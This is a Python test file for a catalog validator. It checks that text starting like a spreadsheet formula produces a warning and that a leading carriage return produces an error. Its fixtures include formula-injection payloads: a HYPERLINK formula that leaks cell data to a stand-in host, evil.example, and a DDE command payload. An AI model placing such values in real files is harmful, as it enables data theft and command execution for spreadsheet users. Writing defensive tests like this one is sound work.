"""`validate` warns at the field when catalog text starts like a spreadsheet formula (issue 40):
such text reaches the cells of every published CSV, which neutralise it. A warning is printed
(and annotated in GitHub Actions) but fails nothing: not `validate`, not the build."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from helpers_catalog import copy_valid, replace_in, run_validate

from tinkernomics.catalog.csvwarnings import csv_warnings
from tinkernomics.catalog.loader import load_catalog

GRPO = "algorithms/grpo.yaml"
CASES = [
    ("\nname: GRPO\n", "\nname: {}\n", "2:7: name"),
    ("  model: 8B dense model", "  model: {}", "25:10: scalerl.model"),
    ("  dataset: Polaris-53K", "  dataset: {}", "26:12: scalerl.dataset"),
]
STARTS = {
    "hyperlink": '=HYPERLINK("https://evil.example/?leak="&A2,"DAPO")',
    "plus": "+1 point",
    "minus": "-5% tokens",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("start", sorted(STARTS))
@pytest.mark.parametrize(("old", "new", "where"), CASES)
def test_formula_like_text_is_a_warning_at_its_field(tmp_path: Path, start: str, old: str,
                                                     new: str, where: str) -> None:
    root = copy_valid(tmp_path)
    replace_in(root, GRPO, old, new.format(json.dumps(STARTS[start])))
    run = run_validate(tmp_path, "catalog", github=True)
    lines = run.out.splitlines()
    assert run.code == 0, run.out
    assert lines[0].startswith(f"catalog/{GRPO}:{where}: warning: starts with "), lines
    assert "spreadsheet reads as a formula" in lines[0]
    assert lines[1].startswith(f"::warning file=catalog/{GRPO},line="), lines
    assert lines[-1].startswith("catalog OK: ")
    catalog, problems = load_catalog(root)
    assert problems == []  # the build loads it
    assert [w.severity for w in csv_warnings(catalog)] == ["warning"]


def test_no_warning_for_ordinary_text(tmp_path: Path) -> None:
    root = copy_valid(tmp_path)
    catalog, _ = load_catalog(root)
    assert csv_warnings(catalog) == []
    assert len(run_validate(tmp_path, "catalog").out.splitlines()) == 1


def test_a_leading_carriage_return_is_an_error_and_a_tab_is_trimmed(tmp_path: Path) -> None:
    root = copy_valid(tmp_path)
    replace_in(root, GRPO, "  model: 8B dense model", '  model: "\\r=1+1"')
    assert run_validate(tmp_path, "catalog").code == 1
    replace_in(root, GRPO, '  model: "\\r=1+1"', '  model: "\\t8B"')
    catalog, problems = load_catalog(root)
    assert problems == [] and catalog.algorithms["grpo"].scalerl.model == "8B"
